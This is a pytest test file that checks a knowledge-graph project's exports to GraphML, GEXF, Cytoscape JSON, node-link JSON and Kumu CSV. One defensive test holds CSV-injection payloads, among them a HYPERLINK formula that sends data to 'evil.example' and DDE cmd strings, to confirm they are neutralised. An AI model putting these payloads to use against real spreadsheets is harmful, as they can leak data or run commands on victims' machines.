"""The network written for other network tools (Gephi, Cytoscape, D3, Kumu): read back with the same
nodes, edges and attributes, valid where the tools are strict, and the same bytes every time."""

from __future__ import annotations

import csv
import io
import json
import types
import zipfile
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET

import networkx as nx
import pytest
from networkx.readwrite import gexf as nx_gexf

from resilience_kg.analysis.projection import project
from resilience_kg.formats.network import NETWORK_FORMATS, export_network, network_bytes
from resilience_kg.graph.dataset import KnowledgeGraph

GRAPHML_NS = "{http://graphml.graphdrawing.org/xmlns}"
EDGE = ("bpbd", "issue-early-warning-system", "worksOn")


@pytest.fixture(scope="module")
def projected(kg: KnowledgeGraph) -> nx.MultiDiGraph:
    return project(kg)


@pytest.fixture(scope="module")
def graphml_file(projected: nx.MultiDiGraph, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return export_network(projected, tmp_path_factory.mktemp("net") / "network.graphml", "graphml")


def check_bpbd(data: dict[str, Any]) -> None:
    assert data["sector"] == "government"
    assert data["acronym"] == "BPBD"
    assert data["label_en"] == "Regional Disaster Management Agency"
    assert data["kind"] == "actor"


# --- GraphML -----------------------------------------------------------------------------------------


def test_graphml_reads_back_whole(graphml_file: Path, projected: nx.MultiDiGraph) -> None:
    back = nx.read_graphml(graphml_file, force_multigraph=True)
    assert back.number_of_nodes() == projected.number_of_nodes()
    assert back.number_of_edges() == projected.number_of_edges()
    assert set(back.nodes) == set(projected.nodes)
    check_bpbd(back.nodes["bpbd"])
    edges = [d for u, w, d in back.edges(data=True) if (u, w) == EDGE[:2]]
    assert len(edges) == 1
    assert (edges[0]["predicate"], edges[0]["graph"], edges[0]["confidence"]) == (
        "rkg:worksOn", "curated", "well-attested",
    )  # fmt: skip


def test_graphml_keeps_numbers_as_numbers(graphml_file: Path) -> None:
    back = nx.read_graphml(graphml_file, force_multigraph=True)
    assert back.nodes["figure-clean-water-from-surroundings"]["value"] == 97
    assert back.nodes["figure-daily-waste"]["min_exclusive"] == 7000


def graphml_tree(path: Path) -> ET.Element:
    return ET.parse(path).getroot()


def test_graphml_declares_every_attribute_as_gephi_needs(graphml_file: Path) -> None:
    root = graphml_tree(graphml_file)
    keys = root.findall(f"{GRAPHML_NS}key")
    assert keys
    for key in keys:
        assert key.get("for") in ("node", "edge", "graph", "all"), key.attrib
        assert key.get("attr.type") in ("string", "boolean", "int", "long", "float", "double"), key.attrib
        assert key.get("attr.name"), key.attrib
    declared = {(key.get("id"), key.get("for")) for key in keys}
    assert any(key.get("attr.name") == "label" and key.get("for") == "node" for key in keys)
    graph = root.find(f"{GRAPHML_NS}graph")
    assert graph is not None
    for element in graph:
        domain = element.tag.removeprefix(GRAPHML_NS)
        for data in element.findall(f"{GRAPHML_NS}data"):
            assert (data.get("key"), domain) in declared or (data.get("key"), "all") in declared, data.attrib


def test_graphml_edge_ids_are_unique(graphml_file: Path, projected: nx.MultiDiGraph) -> None:
    # The GraphML schema requires distinct edge ids (edge_id_unique), and Gephi's importer drops an
    # edge whose id it has already seen: a repeated id means edges silently missing in Gephi.
    graph = graphml_tree(graphml_file).find(f"{GRAPHML_NS}graph")
    assert graph is not None
    ids = [e.get("id", "") for e in graph.findall(f"{GRAPHML_NS}edge") if "id" in e.attrib]
    repeated = sorted({i for i in ids if ids.count(i) > 1})
    assert not repeated, f"{len(ids)} edges share {len(set(ids))} ids, for example {repeated[:5]}"


def test_graphml_key_ids_are_unique(graphml_file: Path) -> None:
    # The GraphML schema makes <key id> a key (key_id_key): one declaration per id.
    ids = [key.get("id", "") for key in graphml_tree(graphml_file).findall(f"{GRAPHML_NS}key")]
    assert len(ids) == len(set(ids)), sorted({i for i in ids if ids.count(i) > 1})


# --- GEXF ----------------------------------------------------------------------------------------------


def test_gexf_reads_back_whole(projected: nx.MultiDiGraph, tmp_path: Path) -> None:
    path = export_network(projected, tmp_path / "network.gexf", "gexf")
    back = nx.read_gexf(path)
    assert back.number_of_nodes() == projected.number_of_nodes()
    assert back.number_of_edges() == projected.number_of_edges()
    assert set(back.nodes) == set(projected.nodes)
    check_bpbd(back.nodes["bpbd"])
    data = back.get_edge_data(*EDGE[:2])
    if back.is_multigraph():  # edges between one pair are keyed by their GEXF ids
        data = next(d for d in data.values() if d.get("label") == EDGE[2])
    assert (data["predicate"], data["graph"], data["label"]) == ("rkg:worksOn", "curated", "worksOn")


def test_gexf_does_not_depend_on_the_day_it_is_written(
    projected: nx.MultiDiGraph, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Same data, same bytes: an export re-run tomorrow must not show up as a change.
    monkeypatch.setattr(nx_gexf, "time", types.SimpleNamespace(strftime=lambda fmt: "2019-11-28"))
    one = network_bytes(projected, "gexf")
    monkeypatch.setattr(nx_gexf, "time", types.SimpleNamespace(strftime=lambda fmt: "2031-05-01"))
    assert network_bytes(projected, "gexf") == one


# --- node-link and Cytoscape JSON --------------------------------------------------------------------


def test_node_link_round_trips(projected: nx.MultiDiGraph) -> None:
    data = json.loads(network_bytes(projected, "node-link"))
    back = nx.node_link_graph(data, edges="links")
    assert back.is_multigraph() and back.is_directed()
    assert back.number_of_nodes() == projected.number_of_nodes()
    assert back.number_of_edges() == projected.number_of_edges()
    check_bpbd(back.nodes["bpbd"])
    # Exported edges are keyed source|property|target, unique per edge; the property is the label.
    edge = back.edges[(EDGE[0], EDGE[1], "|".join((EDGE[0], EDGE[2], EDGE[1])))]
    assert edge["predicate"] == "rkg:worksOn"
    assert edge["label"] == "worksOn"


def cytoscape(projected: nx.MultiDiGraph) -> dict[str, Any]:
    return json.loads(network_bytes(projected, "cytoscape"))


def test_cytoscape_has_elements_with_ids_sources_and_targets(projected: nx.MultiDiGraph) -> None:
    doc = cytoscape(projected)
    nodes, edges = doc["elements"]["nodes"], doc["elements"]["edges"]
    ids = [n["data"]["id"] for n in nodes]
    assert sorted(ids) == sorted(projected.nodes)
    assert len(edges) == projected.number_of_edges()
    for e in edges:
        assert e["data"]["source"] in ids and e["data"]["target"] in ids
    bpbd = next(n["data"] for n in nodes if n["data"]["id"] == "bpbd")
    check_bpbd(bpbd)
    assert bpbd["name"] == "BPBD"


def test_cytoscape_keeps_a_figure_value(projected: nx.MultiDiGraph) -> None:
    # The figure "97 % of clean water comes from the surrounding regions" must still say 97.
    assert projected.nodes["figure-clean-water-from-surroundings"]["value"] == 97
    figure = next(
        n["data"] for n in cytoscape(projected)["elements"]["nodes"]
        if n["data"]["id"] == "figure-clean-water-from-surroundings"
    )  # fmt: skip
    assert figure["value"] == 97, figure["value"]


# --- Kumu ------------------------------------------------------------------------------------------------


def test_kumu_sheets_connect_by_label(projected: nx.MultiDiGraph) -> None:
    with zipfile.ZipFile(io.BytesIO(network_bytes(projected, "kumu-csv"))) as z:
        assert sorted(z.namelist()) == ["connections.csv", "elements.csv"]
        elements = list(csv.DictReader(io.StringIO(z.read("elements.csv").decode("utf-8"))))
        connections = list(csv.DictReader(io.StringIO(z.read("connections.csv").decode("utf-8"))))
    assert list(elements[0])[:3] == ["Label", "Type", "Description"]
    assert list(connections[0])[:3] == ["From", "To", "Type"]
    assert len(elements) == projected.number_of_nodes()
    assert len(connections) == projected.number_of_edges()
    labels = [e["Label"] for e in elements]
    assert len(labels) == len(set(labels))
    for c in connections:
        assert c["From"] in labels and c["To"] in labels, c
    bpbd = next(e for e in elements if e["ID"] == "bpbd")
    assert (bpbd["Label"], bpbd["Type"], bpbd["Description"]) == (
        "BPBD", "GovernmentAgency", "Regional Disaster Management Agency",
    )  # fmt: skip
    assert {"From": "BPBD", "Type": "worksOn", "Confidence": "uncertain"}.items() <= next(
        c for c in connections if c["From"] == "BPBD" and c["Confidence"] == "uncertain"
    ).items()


def test_kumu_labels_shared_by_two_nodes_are_told_apart() -> None:
    g = nx.MultiDiGraph()
    g.add_node("a", label="Same", type="Thing")
    g.add_node("b", label="Same", type="Thing")
    g.add_node("c", label="Other", type="Thing")
    g.add_edge("a", "c", key="knows", predicate="rkg:knows", graph="report")
    g.add_edge("b", "c", key="knows", predicate="rkg:knows", graph="report")
    with zipfile.ZipFile(io.BytesIO(network_bytes(g, "kumu-csv"))) as z:
        labels = [row["Label"] for row in csv.DictReader(io.StringIO(z.read("elements.csv").decode()))]
        froms = [row["From"] for row in csv.DictReader(io.StringIO(z.read("connections.csv").decode()))]
    assert len(set(labels)) == 3
    assert sorted(froms) == sorted(label for label in labels if label != "Other")


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def kumu_sheets(g: nx.MultiDiGraph) -> tuple[list[dict[str, str]], list[dict[str, str]]]:
    with zipfile.ZipFile(io.BytesIO(network_bytes(g, "kumu-csv"))) as z:
        elements = list(csv.DictReader(io.StringIO(z.read("elements.csv").decode("utf-8"), newline="")))
        connections = list(csv.DictReader(io.StringIO(z.read("connections.csv").decode("utf-8"), newline="")))
    return elements, connections


def test_kumu_cells_a_spreadsheet_would_run_are_neutralised() -> None:
    # OWASP's CSV injection advice: a text cell starting with = + - @ tab or CR gets a leading
    # single quote, so Excel, LibreOffice and Google Sheets show it as text instead of running it.
    g = nx.MultiDiGraph()
    for i, text in enumerate(FORMULAS):
        g.add_node(f"n{i}", label=text, type="Thing", label_en=text, note=text)
    g.add_node("plain", label="BPBD", type="GovernmentAgency", label_en="Disaster agency", note="a - b")
    for i in range(len(FORMULAS)):
        g.add_edge(f"n{i}", "plain", key="knows", graph=FORMULAS[i], confidence=FORMULAS[i])
    elements, connections = kumu_sheets(g)
    by_id = {e["ID"]: e for e in elements}
    for i, text in enumerate(FORMULAS):
        row = by_id[f"n{i}"]
        for column in ("Label", "Description", "note"):
            assert row[column] == "'" + text, (column, row[column])
    assert (by_id["plain"]["Label"], by_id["plain"]["note"]) == ("BPBD", "a - b")  # text elsewhere is untouched
    # The sheets still connect: the same label is neutralised the same way in both.
    labels = {e["Label"] for e in elements}
    assert all(c["From"] in labels and c["To"] in labels for c in connections)
    for c in connections:
        assert c["Basis"].startswith("'") and c["Confidence"].startswith("'"), c
    for row in (*elements, *connections):
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_kumu_numbers_stay_numbers() -> None:
    # A numeric column (value -0.5, a float) is written as the number, not quoted into text; a
    # text cell that is nothing but a number ("-0.5") cannot hold a formula and stays as it is.
    g = nx.MultiDiGraph()
    g.add_node("neg", label="Negative", type="Figure", value=-0.5)
    g.add_node("pos", label="Positive", type="Figure", value=2)
    g.add_node("txt", label="-0.5", type="Figure", value=1.5)
    g.add_node("sci", label="-1e3", type="Figure", value=0.0)
    elements, _ = kumu_sheets(g)
    by_id = {e["ID"]: e for e in elements}
    assert [float(by_id[n]["value"]) for n in ("neg", "pos", "txt", "sci")] == [-0.5, 2.0, 1.5, 0.0]
    assert by_id["neg"]["value"] == "-0.5"
    assert (by_id["txt"]["Label"], by_id["sci"]["Label"]) == ("-0.5", "-1e3")


def test_kumu_export_of_the_bundled_network_has_no_formula_cells(projected: nx.MultiDiGraph) -> None:
    elements, connections = kumu_sheets(projected)
    for row in (*elements, *connections):
        for column, value in row.items():
            if value.startswith(("=", "+", "-", "@", "\t", "\r")):
                assert column == "value" and float(value) < 0, (column, value)


# --- deterministic, and robust to mixed attribute types ----------------------------------------------


@pytest.mark.parametrize("fmt", NETWORK_FORMATS)
def test_two_exports_are_byte_identical(projected: nx.MultiDiGraph, tmp_path: Path, fmt: str) -> None:
    one = export_network(projected, tmp_path / "one", fmt).read_bytes()
    two = export_network(project_again(projected), tmp_path / "two", fmt).read_bytes()
    assert one == two
    assert len(one) > 1000


def project_again(g: nx.MultiDiGraph) -> nx.MultiDiGraph:
    """An equal graph built in another order, as another run could build it."""
    h = nx.MultiDiGraph()
    h.add_nodes_from(g.nodes(data=True))
    h.add_edges_from(g.edges(keys=True, data=True))
    return h


def mixed_graph() -> nx.MultiDiGraph:
    g = nx.MultiDiGraph()
    g.add_node("one", label="One", kind="figure", score=3)
    g.add_node("two", label="Two", kind="figure", score=2.5)
    g.add_node("three", label="Three", kind="figure", score="high")
    g.add_node("four", label="Four", kind="figure", size=1)
    g.add_node("five", label="Five", kind="figure", size=1.5)
    g.add_edge("one", "two", key="relatedTo", predicate="rkg:relatedTo", graph="report", weight=1)
    g.add_edge("two", "three", key="relatedTo", predicate="rkg:relatedTo", graph="report", weight=0.5)
    return g


@pytest.mark.parametrize("fmt", NETWORK_FORMATS)
def test_mixed_attribute_types_export(fmt: str) -> None:
    assert network_bytes(mixed_graph(), fmt)


def test_mixed_attribute_types_read_back(tmp_path: Path) -> None:
    g = mixed_graph()
    graphml = nx.read_graphml(export_network(g, tmp_path / "m.graphml", "graphml"), force_multigraph=True)
    gexf = nx.read_gexf(export_network(g, tmp_path / "m.gexf", "gexf"))
    for back in (graphml, gexf):
        # A string among the values makes every value a string; ints among floats become floats.
        assert [back.nodes[n]["score"] for n in ("one", "two", "three")] == ["3", "2.5", "high"]
        assert [back.nodes[n]["size"] for n in ("four", "five")] == [1.0, 1.5]
        assert back.number_of_edges() == 2
    link = nx.node_link_graph(json.loads(network_bytes(g, "node-link")), edges="links")
    assert link.nodes["two"]["score"] == "2.5"
    assert link.nodes["four"]["size"] == 1.0
